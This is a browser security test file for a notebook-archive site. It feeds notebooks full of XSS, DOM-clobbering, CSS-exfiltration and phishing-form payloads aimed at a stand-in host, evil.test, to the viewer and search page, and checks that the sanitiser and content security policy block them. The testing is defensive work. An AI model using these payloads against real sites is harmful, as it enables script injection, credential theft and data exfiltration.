"""The site against a hostile archive, in headless Chromium: notebooks whose outputs, markdown,
titles and metadata carry script, event handlers, javascript: URLs, forms, remote images and
stylesheets, and ids that would stand in for the page's own elements. Opened in the viewer and on
the search page, they run nothing (no marker call, no dialog), fetch nothing from any origin but
the site's: with the Content-Security-Policy enforced, and with it bypassed too (the sanitiser
alone holds; the policy is the second line). Every response carries the policy and nosniff, every page its <meta> copy; the
site publishes only what it needs of the archive, and the offline copy keeps only what the build
listed."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect
from tests.browser.conftest import BOOT_TIMEOUT_MS, service_worker_ready, wait_for
from tests.conftest import load_build

from cellar.cli import main
from cellar.site.server import content_security_policy, serve_in_background

ROOT = Path(__file__).resolve().parents[2]
EVIL = "http://evil.test"  # another origin: routed by the tests, so any request to it is seen

# Each payload calls __hit(n) if it ever runs, and points anything it would load at EVIL.
PAYLOADS = [
    "<script>__hit(0)</script>",
    "<script src='http://evil.test/s.js'></script>",
    "<img src=x onerror=__hit(2)>",
    "<img src='http://evil.test/pixel.png'>",
    "<img srcset='http://evil.test/srcset.png 1x, http://evil.test/srcset2.png 2x'>",
    "<img src='//evil.test/protocol-relative.png'>",
    "<img src='  https://evil.test/padded.png'>",
    "<img src='http&#58;//evil.test/entity.png'>",
    "<img loading=lazy src='http://evil.test/lazy.png'>",
    "<picture><source srcset='http://evil.test/picture.png'><img alt=p></picture>",
    "<video poster='http://evil.test/poster.png' autoplay><source src='http://evil.test/v.mp4'></video>",
    "<audio src='http://evil.test/a.mp3' autoplay onplay=__hit(11)></audio>",
    "<svg onload=__hit(12)></svg>",
    "<svg><script>__hit(13)</script></svg>",
    "<svg><image href='http://evil.test/svg-image.png' width=10 height=10 /></svg>",
    "<svg><rect width=10 height=10 fill='url(http://evil.test/fill.svg#p)' /></svg>",
    "<svg><rect width=10 height=10 filter='u\\72l(http://evil.test/escaped.svg#f)' /></svg>",
    "<svg><use href='http://evil.test/use.svg#x' /></svg>",
    "<svg><a xlink:href='javascript:__hit(18)'><text y=10>svg link</text></a></svg>",
    "<svg><animate attributeName=href to='javascript:__hit(19)' /><set attributeName=onload to=__hit(19) /></svg>",
    "<svg><filter id=f><feImage href='http://evil.test/feimage.png' /></filter></svg>",
    "<svg><style>@import url(http://evil.test/svg-style.css);</style></svg>",
    "<svg><foreignObject><iframe src='http://evil.test/fo'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.__hit(23)</script>'></iframe>",
    "<iframe src='javascript:parent.__hit(24)'></iframe>",
    "<iframe src='http://evil.test/frame'></iframe>",
    "<object data='http://evil.test/object'></object><embed src='http://evil.test/embed'>",
    "<meta http-equiv='refresh' content='0;url=http://evil.test/refresh'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/style.css'><link rel=prefetch href='http://evil.test/pf'>",
    "<style>body { background: url(http://evil.test/style-bg.png) }</style>",
    "<style>@import 'http://evil.test/import.css';</style>",
    "<style>input[value^=a] { background: url(http://evil.test/exfil?a) }</style>",
    "<div style=\"background-image:url('http://evil.test/inline-bg.png')\">styled</div>",
    "<table background='http://evil.test/table-bg.png'><tr><td>t</td></tr></table>",
    "<form action='http://evil.test/steal' method=post><input type=password name=pw><button>Log in</button></form>",
    "<input type=image src='http://evil.test/input.png'><textarea>t</textarea><select><option>o</select>",
    "<button formaction='http://evil.test/formaction' onclick=__hit(37)>b</button>",
    "<input autofocus onfocus=__hit(38)>",
    "<details open ontoggle=__hit(39)><summary>d</summary></details>",
    "<a href='javascript:__hit(40)'>js link</a>",
    "<a href=' JaVaScRiPt:__hit(41)'>js link, mixed case</a>",
    "<a href='data:text/html,<script>__hit(42)</script>'>data link</a>",
    "<a href='http://evil.test/link' ping='http://evil.test/ping'>ping link</a>",
    "<body onload=__hit(44)>",
    "<marquee onstart=__hit(45)>m</marquee>",
    "<div onmouseover=__hit(46) onclick=__hit(46)>hover</div>",
    "<noscript><p title='</noscript><img src=x onerror=__hit(47)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit(48)></style></mglyph></table></mtext></math>",
    "<template><script>__hit(49)</script></template>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__hit(50)"/>\'>',
    "<div id='cell-2'>a fake cell 2</div>",
    "<a name='cellar'>clobber</a><img name='cellar'><form name='cellar'></form>",
    "<div id='boot-status'>fake status</div><div id='title'>fake title</div><div id='rerender'>x</div>",
    "<a href='#cell-2'>an internal link</a>",
    "<img src=1 onerror='fetch(\"http://evil.test/fetch\")'>",
    "<portal src='http://evil.test/portal'></portal><frameset><frame src='http://evil.test/f'></frameset>",
    "<div data-x=1 ondrag=__hit(57) draggable=true>drag</div>",
    "<svg><a href='http://evil.test/svg-link'><circle r=5 /></a></svg>",
    "<p><isindex action='http://evil.test/isindex'></p>",
    # CSS functions that fetch a string they are given, in SVG presentation attributes
    "<svg width=9 height=9><rect width=9 height=9 mask=\"image-set('http://evil.test/image-set.png' 1x)\" /></svg>",
    "<svg width=9 height=9><rect width=9 height=9 fill=\"-webkit-image-set('http://evil.test/webkit.png' 1x)\" /></svg>",
    # drawn above the page, dressed in its styles, or working its buttons and its downloads
    "<dialog open class='warning problem'>Session expired: <a href='http://evil.test/login'>sign in</a></dialog>",
    "<p class='status status-clean'>a fake status</p><label for='rerender'>press the viewer's button</label>",
    "<a download='report.pdf.exe' href='archive/pathmap.json'>a download named by the notebook</a>",
]
# Markdown of its own (the cells also get each HTML payload as markdown).
MARKDOWN_PAYLOADS = [
    "![pixel](http://evil.test/md-image.png)",
    "[click](javascript:__hit(101))",
    "![ref][r]\n\n[r]: http://evil.test/md-ref.png",
    "<http://evil.test/autolink>",
    "![svg](data:image/svg+xml,%3Csvg%20onload%3D__hit(104)%3E%3C%2Fsvg%3E)",
]
CLOBBERING = [payload for payload in PAYLOADS if "cell-2" in payload or "name='cellar'" in payload]
TITLE = "<img src=x onerror=__hit(200)><script>__hit(200)</script>"
# The words the search page looks for, in every hostile cell.
WORDS = "hostile payload"


def notebook(path_title: str) -> dict:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"# {TITLE} {WORDS}\n\n{TITLE}"},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": "show()",
            "outputs": [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    # the ids first: the rest, all in one, may swallow what follows
                    "data": {"text/html": "".join(CLOBBERING + PAYLOADS), "text/plain": "payloads"},
                }
            ],
        },
        {"cell_type": "markdown", "metadata": {}, "source": f"## The real cell 2: {WORDS}"},
    ]
    for n, payload in enumerate(PAYLOADS):
        cells.append({"cell_type": "markdown", "metadata": {}, "source": f"{WORDS} {n}\n\n{payload}"})
        cells.append(
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": n + 2,
                "source": f"payload({n})",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": f"<p>{WORDS} {n}</p>{payload}", "text/plain": f"{WORDS} {n}"},
                    },
                    {"output_type": "stream", "name": "stdout", "text": payload},
                ],
            }
        )
    for n, payload in enumerate(MARKDOWN_PAYLOADS, start=100):
        cells.append({"cell_type": "markdown", "metadata": {}, "source": f"{WORDS} {n}\n\n{payload}"})
        cells.append(
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": n,
                "source": f"markdown({n})",
                "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/markdown": payload}}],
            }
        )
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='__hit(300)'><script>__hit(300)</script>"
    svg += "<image href='http://evil.test/svg-output.png' width='9' height='9'/></svg>"
    cells.append(
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 400,
            "source": f"# {WORDS} table\nframe",
            "outputs": [
                {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
                {
                    "output_type": "execute_result",
                    "execution_count": 400,
                    "metadata": {},
                    "data": {
                        "text/html": '<table class="dataframe"><thead><tr><th>hostile</th><th>payload</th></tr></thead><tbody>'
                        "<tr><td>&lt;img src=x onerror=__hit(301)&gt;</td><td>&lt;script&gt;__hit(301)"
                        "&lt;/script&gt;</td></tr><tr><td>2</td><td>&lt;img src=http://evil.test/t.png&gt;"
                        "</td></tr><tr><td>3</td><td>[a link](http://evil.test/table-link)</td></tr></tbody></table>",
                        "text/plain": "table",
                    },
                },
                {
                    "output_type": "error",
                    "ename": TITLE,
                    "evalue": TITLE,
                    "traceback": [TITLE, f"{WORDS} <script>__hit(302)</script>"],
                },
            ],
        }
    )
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "title": TITLE,
            "kernelspec": {"name": "python3", "display_name": TITLE},
            "cellar": {
                "title": path_title,
                "project": TITLE,
                "author": TITLE,
                "year": 2020,
                "vessel_class": TITLE,
                "tags": [TITLE, "<a href='javascript:__hit(201)'>tag</a>"],
            },
        },
        "cells": cells,
    }


HOSTILE = "hostile/hostile.ipynb"
NAMED = "hostile/<svg onload=__hit(202)>.ipynb"
# What an archive may hold but the site must never publish (it would run on the site's origin).
UNPUBLISHED = {
    "evil.html": "<script>__hit(500)</script>",
    "evil.htm": "<script>__hit(500)</script>",
    "evil.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>__hit(500)</script></html>",
    "evil.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='__hit(500)'/>",
    "evil.js": "__hit(500)",
    "hostile/evil.mjs": "__hit(500)",
    "hostile/README.md": "# read me",
    "blobs/sha256/ab/not-a-blob.html": "<script>__hit(500)</script>",
}
BLOB = b"a,b\n1,2\n"


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory) -> Path:
    archive = tmp_path_factory.mktemp("hostile-archive")
    for path, title in ((HOSTILE, TITLE), (NAMED, f"{TITLE} named")):
        (archive / path).parent.mkdir(parents=True, exist_ok=True)
        (archive / path).write_text(json.dumps(notebook(title)), encoding="utf-8")
    digest = hashlib.sha256(BLOB).hexdigest()
    (archive / f"blobs/sha256/{digest[:2]}").mkdir(parents=True)
    (archive / f"blobs/sha256/{digest[:2]}/{digest}").write_bytes(BLOB)
    pathmap = {"format": 1, "files": {"P:\\hostile\\<b>in.csv": f"sha256:{digest}"}}
    (archive / "pathmap.json").write_text(json.dumps(pathmap))
    (archive / "requirements.txt").write_text("numpy\n")
    for path, text in UNPUBLISHED.items():
        (archive / path).parent.mkdir(parents=True, exist_ok=True)
        (archive / path).write_text(text)
    return archive


@pytest.fixture(scope="module")
def hostile_site(site, hostile_archive, tmp_path_factory) -> Path:
    """site/ but for the shard (of the hostile archive) and the archive as the build publishes it."""
    root = tmp_path_factory.mktemp("hostile-site")
    assert main(["index", str(hostile_archive), "--out", str(root / "shard")]) in (0, 1)
    assert (root / "shard/manifest.json").is_file()
    for entry in site.iterdir():
        if entry.name not in ("shard", "archive", "rendered"):
            (root / entry.name).symlink_to(entry)
    for path in load_build().published_archive(hostile_archive):
        target = root / "archive" / path.relative_to(hostile_archive)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(path, target)
    # An archive file that a host serves anyway (as a site made by hand might): data, never a page.
    shutil.copyfile(hostile_archive / "evil.html", root / "archive/served-anyway.html")
    return root


@pytest.fixture(scope="module")
def hostile_url(hostile_site) -> Iterator[str]:
    server = serve_in_background(hostile_site)
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


class Watch:
    """A fresh browser context that counts what hostile content could do: script run (marker
    calls, dialogs) and requests to any origin but the site's; and the site's responses.

    Policy violations are not counted: Chromium reports one for every handler, <style> and <base>
    in the inert document DOMPurify parses the HTML into (it inherits the page's policy), so they
    say what the sanitiser removed, not what reached the page. `bypass_csp` turns the policy off,
    to show the sanitiser holds alone; the checks of the sanitised DOM (`check_content`) say what
    the page holds."""

    INIT = "window.__hit = (n) => console.log(`__hit ${n}`);"

    def __init__(self, browser, url: str, bypass_csp: bool = False):
        self.origin = "{0.scheme}://{0.netloc}".format(urlsplit(url))
        self.context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=bypass_csp)
        self.context.add_init_script(self.INIT)
        self.hits: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.foreign: list[str] = []  # asked for (even if the policy then blocked it)
        self.routed: list[str] = []  # got as far as the network
        self.responses: list = []
        self.context.route(
            re.compile(r"^(?!" + re.escape(self.origin) + r")https?://"),
            lambda route: (self.routed.append(route.request.url), route.fulfill(status=204))[-1],
        )
        self.context.on("request", self.request)
        self.context.on("response", lambda response: self.responses.append(response))
        self.page = self.context.new_page()
        self.page.set_default_timeout(BOOT_TIMEOUT_MS)
        self.page.on("console", self.console)
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    def request(self, request) -> None:
        if not request.url.startswith((self.origin + "/", "data:", "blob:")):
            self.foreign.append(request.url)

    def console(self, message) -> None:
        if message.text.startswith("__hit"):
            self.hits.append(message.text)

    def settle(self) -> None:
        """Scroll through the page (lazy images load when seen) and let late loads happen."""
        self.page.evaluate(
            """async () => { for (let y = 0; y < document.body.scrollHeight; y += 600) {
            window.scrollTo(0, y); await new Promise((r) => setTimeout(r, 20)); } }"""
        )
        self.page.wait_for_timeout(1500)

    def assert_held(self) -> None:
        assert self.hits == [], f"hostile content ran: {self.hits}"
        assert self.dialogs == [], f"hostile content opened dialogs: {self.dialogs}"
        assert self.foreign == [] and self.routed == [], f"requests to other origins: {self.foreign + self.routed}"
        assert self.errors == [], f"uncaught errors in the page: {self.errors}"

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def watch(browser) -> Iterator[callable]:
    opened: list[Watch] = []

    def open_(url: str, bypass_csp: bool = False) -> Watch:
        opened.append(Watch(browser, url, bypass_csp))
        return opened[-1]

    yield open_
    for each in opened:
        each.close()


# What no sanitised container may hold, and what each checks.
CONTENT_CHECK = """(selector) => {
  const boxes = [...document.querySelectorAll(selector)];
  const all = boxes.flatMap((box) => [...box.querySelectorAll("*")]);
  const forbidden = "script, iframe, frame, object, embed, form, input, button, textarea, select, option, "
    + "style, link, meta, base, video, audio, source, track, picture, portal, image, use, feimage, foreignobject, dialog";
  const problems = [];
  for (const box of boxes) box.querySelectorAll(forbidden).forEach((n) => problems.push(`element ${n.localName}`));
  for (const node of all) {
    for (const attr of node.attributes) {
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (attr.name.startsWith("on")) problems.push(`handler ${attr.name} on ${node.localName}`);
      if (["style", "srcset", "poster", "background", "ping", "action", "formaction", "for", "download",
           "popovertarget", "commandfor"].includes(attr.name))
        problems.push(`attribute ${attr.name} on ${node.localName}`);
      if (attr.name === "class" && !(node.localName === "code" && /^language-[\\w+-]+$/.test(attr.value)))
        problems.push(`attribute ${attr.name} on ${node.localName}`);
      if (value.startsWith("javascript:") || value.startsWith("data:text")) problems.push(`${attr.name}=${attr.value}`);
      if ((attr.name === "id" || attr.name === "name") && !attr.value.startsWith("user-content-"))
        problems.push(`${attr.name}=${attr.value} on ${node.localName}`);
      if (attr.name === "src" && !value.startsWith("data:image/")) problems.push(`src=${attr.value}`);
      if (/url\\(/.test(value) && !/url\\(['"]?#/.test(value)) problems.push(`${attr.name}=${attr.value}`);
      if (/image-set\\(/.test(value)) problems.push(`${attr.name}=${attr.value}`);
      if (["href", "xlink:href"].includes(attr.name) && !["a", "area"].includes(node.localName) && !value.startsWith("#"))
        problems.push(`${attr.name}=${attr.value} on ${node.localName}`);
    }
  }
  return { count: boxes.length, problems };
}"""


def check_content(page, selector: str) -> None:
    result = page.evaluate(CONTENT_CHECK, selector)
    assert result["count"] > 0, f"no {selector} on the page"
    assert result["problems"] == [], result["problems"]


def assert_headers(watch: Watch) -> None:
    """Every response of the site carries the policy and nosniff; a page's is its own policy."""
    mine = [r for r in watch.responses if r.url.startswith(watch.origin + "/")]
    assert mine
    for response in mine:
        headers = response.all_headers()
        assert headers.get("x-content-type-options") == "nosniff", response.url
        assert headers.get("content-security-policy"), response.url
        if response.request.resource_type == "document":
            page = urlsplit(response.url).path.rsplit("/", 1)[-1] or "index.html"
            assert headers["content-security-policy"] == content_security_policy(page), response.url


def test_at_least_fifty_payloads_are_tried():
    assert len(PAYLOADS) + len(MARKDOWN_PAYLOADS) >= 50


POLICY = pytest.mark.parametrize("policy", ["enforced", "bypassed"])


@POLICY
def test_the_viewer_runs_and_fetches_nothing_of_a_hostile_notebook(watch, hostile_url, policy):
    seen = watch(hostile_url, bypass_csp=policy == "bypassed")
    page = seen.page
    url = f"{hostile_url}viewer.html?path={quote(HOSTILE)}&cell=2"
    page.goto(url)
    wait_for(page, "document.body.dataset.rendered === 'true'")
    expect(page.locator("#built-status")).to_contain_text("not re-rendered")
    seen.settle()
    seen.assert_held()
    check_content(page, ".html-output, .markdown, .output .prose")
    # The payloads are there, drawn harmless: text stays text, markup lost its teeth.
    expect(page.locator("#title")).to_have_text(TITLE)
    assert page.evaluate("document.title") == f"{TITLE} · Cellar"
    expect(page.locator("#facts")).to_contain_text(TITLE)
    expect(page.locator("#cell-1 .html-output")).to_contain_text("a fake cell 2")
    expect(page.locator("#cell-1 .html-output a", has_text="js link").first).to_be_visible()
    assert "__hit(2)" in page.locator("#cell-8 .stdout").inner_text()  # the stream, as text
    # The cited cell is the notebook's cell 2, not the output that called itself cell-2.
    cited = page.evaluate(
        """() => { const cell = document.getElementById("cell-2");
        return [cell.localName, cell.className, document.activeElement === cell, document.body.dataset.citedCell]; }"""
    )
    assert cited == ["li", "cell cell-markdown cited", True, "2"]
    assert page.evaluate("document.querySelector('#user-content-cell-2').closest('#cell-1') !== null")
    assert page.evaluate("document.querySelector('a[href=\"#user-content-cell-2\"]') !== null")
    # Nothing clobbered, nowhere else to go: no forms, no <base>, the page where it was.
    assert page.evaluate("typeof window.cellar.call") == "function"
    assert page.evaluate("document.cellar === undefined && document.forms.length === 0")
    assert page.evaluate("document.baseURI") == url
    assert page.url == url
    expect(page.locator("#boot-status")).to_have_attribute("role", "status")
    # The image/svg+xml output is an <img> of a data: URI: no script, no fetch inside it.
    assert page.locator(f"#cell-{3 + 2 * len(PAYLOADS) + 2 * len(MARKDOWN_PAYLOADS)} .output img").count() == 1
    assert_headers(seen)


def test_a_notebook_named_like_markup_is_shown_as_text(watch, hostile_url):
    seen = watch(hostile_url)
    seen.page.goto(f"{hostile_url}viewer.html?path={quote(NAMED)}")
    wait_for(seen.page, "document.body.dataset.rendered === 'true'")
    expect(seen.page.locator("#path")).to_have_text(NAMED)
    seen.settle()
    seen.assert_held()


@POLICY
def test_the_search_page_shows_hostile_hits_and_runs_and_fetches_nothing(watch, hostile_url, policy):
    seen = watch(hostile_url, bypass_csp=policy == "bypassed")
    page = seen.page
    page.goto(f"{hostile_url}?q={quote(WORDS)}")
    wait_for(page, "q => document.body.dataset.answered === q", arg=WORDS)
    assert page.locator("#notebooks > li").count() == 2
    expect(page.locator("#notebooks .path").first).to_contain_text("hostile/")
    expect(page.locator("#project option", has_text="<img").first).to_be_attached()
    # A table passage, drawn as a table, with the markup in its cells as text.
    page.locator("#kind-table").check()
    expect(page.locator(".table-hit table").first).to_be_visible()
    expect(page.locator(".table-hit table").first).to_contain_text("<img src=x onerror=__hit(301)>")
    # and a link written in a cell is its text, no link
    expect(page.locator(".table-hit table").first).to_contain_text("[a link](http://evil.test/table-link)")
    assert page.locator(".table-hit table a").count() == 0
    page.locator("details.neighbourhood summary").first.click()
    seen.settle()
    seen.assert_held()
    check_content(page, ".table-hit .table-wrap")
    assert page.evaluate("typeof window.cellar.search") == "function"
    assert_headers(seen)


def test_every_page_carries_the_policy_as_header_and_meta(hostile_url):
    for html in sorted((ROOT / "web").glob("*.html")):
        meta = re.findall(r'<meta http-equiv="Content-Security-Policy"\s+content="([^"]*)"', html.read_text())
        assert meta == [content_security_policy(html.name, meta=True)], html.name
        assert "frame-ancestors" in content_security_policy(html.name)
        with urllib.request.urlopen(hostile_url + html.name) as response:
            assert response.headers["Content-Security-Policy"] == content_security_policy(html.name)
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert meta[0] in response.read().decode()
    for directive in ("script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "object-src 'none'"):
        assert directive in content_security_policy("viewer.html")
    assert "'unsafe-inline'" not in content_security_policy("viewer.html")
    assert "'unsafe-inline'" not in content_security_policy("index.html")


def test_only_notebooks_settings_and_blobs_are_published_and_served_as_data(hostile_archive, hostile_url):
    published = sorted(
        p.relative_to(hostile_archive).as_posix() for p in load_build().published_archive(hostile_archive)
    )
    assert [p for p in published if not p.startswith("blobs/")] == [NAMED, HOSTILE, "pathmap.json", "requirements.txt"]
    assert [p for p in published if p.startswith("blobs/")] == [
        p.relative_to(hostile_archive).as_posix()
        for p in (hostile_archive / "blobs/sha256").glob("??/*")
        if len(p.name) == 64
    ]
    for path in UNPUBLISHED:
        with pytest.raises(urllib.error.HTTPError) as missing:
            urllib.request.urlopen(hostile_url + "archive/" + quote(path))
        assert missing.value.code == 404
    expected = {
        HOSTILE: "application/json",
        "pathmap.json": "application/json",
        "requirements.txt": "text/plain; charset=utf-8",
        published[0]: "application/octet-stream",
        "served-anyway.html": "application/octet-stream",
    }
    for path, kind in expected.items():
        with urllib.request.urlopen(hostile_url + "archive/" + quote(path)) as response:
            assert response.headers["Content-Type"] == kind, path
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.headers["Content-Disposition"] == "attachment"
            assert "sandbox" in response.headers["Content-Security-Policy"]


def test_the_offline_copy_keeps_only_what_the_build_listed(watch, hostile_url):
    seen = watch(hostile_url)
    page = seen.page
    page.goto(f"{hostile_url}?q={quote(WORDS)}")
    wait_for(page, "q => document.body.dataset.answered === q", arg=WORDS)
    service_worker_ready(page)
    wait_for(page, "navigator.serviceWorker.controller !== null")
    # What notebook code in the tab could ask for: HTML at URLs under the runtime and the archive
    # (directory listings), unlisted files; none of it may enter the cache.
    page.evaluate(
        """async () => { for (const url of ["pyodide/", "pyodide/?x", "archive/", "archive/hostile/",
        "archive/served-anyway.html", "shard/", "wheels/", "nothing-here.js", "viewer.html?path=x"]) {
        await (await fetch(url)).text(); } }"""
    )
    page.wait_for_timeout(500)
    cached = page.evaluate(
        """async () => { const out = [];
        for (const name of await caches.keys()) { const cache = await caches.open(name);
          for (const request of await cache.keys()) {
            const response = await cache.match(request);
            out.push([new URL(request.url).pathname + new URL(request.url).search, response.headers.get("content-type")]); } }
        return out; }"""
    )
    paths = [path for path, _ in cached]
    for unlisted in (
        "/pyodide/",
        "/pyodide/?x",
        "/archive/",
        "/archive/hostile/",
        "/archive/served-anyway.html",
        "/shard/",
        "/wheels/",
        "/nothing-here.js",
        "/viewer.html?path=x",
    ):
        assert unlisted not in paths
    assert "/archive/" + quote(HOSTILE) in paths and "/pyodide/pyodide.asm.wasm" in paths
    pages = [path for path, kind in cached if kind.startswith("text/html")]
    assert pages and all(path == "/" or path.endswith(".html") for path in pages), pages
    seen.assert_held()


# What notebook code re-run in the tab (or a learner's code) could try through Pyodide's `js`.
PROBE = """
import js
print("caches", hasattr(js, "caches"), "indexedDB", hasattr(js, "indexedDB"))
print("storage", hasattr(js.navigator, "storage"), "buckets", hasattr(js.navigator, "storageBuckets"))
for what, attempt in [
    ("eval", lambda: js.eval("1")),
    ("function", lambda: js.Function.new("return 1")),
    ("xhr", lambda: (x := js.XMLHttpRequest.new(), x.open("GET", "http://evil.test/xhr", False), x.send())),
]:
    try:
        attempt()
        print(what, "allowed")
    except Exception as error:
        print(what, "refused")
"""


def test_python_in_the_tab_reaches_no_origin_storage_no_eval_and_no_other_host(watch, hostile_url):
    seen = watch(hostile_url)
    seen.page.goto(hostile_url)
    seen.page.evaluate("() => window.cellar.ready")
    result = seen.page.evaluate("(code) => cellar.call('cellar.site.bridge', 'run_code', code)", PROBE)
    assert result["error"] is None, result
    assert result["stdout"].split("\n")[:5] == [
        "caches False indexedDB False",
        "storage False buckets False",
        "eval refused",
        "function refused",
        "xhr refused",
    ]
    assert seen.routed == [], seen.routed
    # Nor can code start a worker of its own from a blob: URL, where a fresh scope would have them
    # (the worker's policy is the page's: worker-src 'self').
    started = seen.page.evaluate(
        """() => new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(typeof caches)"])));
        worker.onmessage = ({ data }) => resolve(`ran: ${data}`);
        worker.onerror = () => resolve("refused");
        setTimeout(() => resolve("no answer"), 5000); })"""
    )
    assert started == "refused"
    assert seen.page.evaluate("typeof caches") == "object"  # the page keeps its offline copy
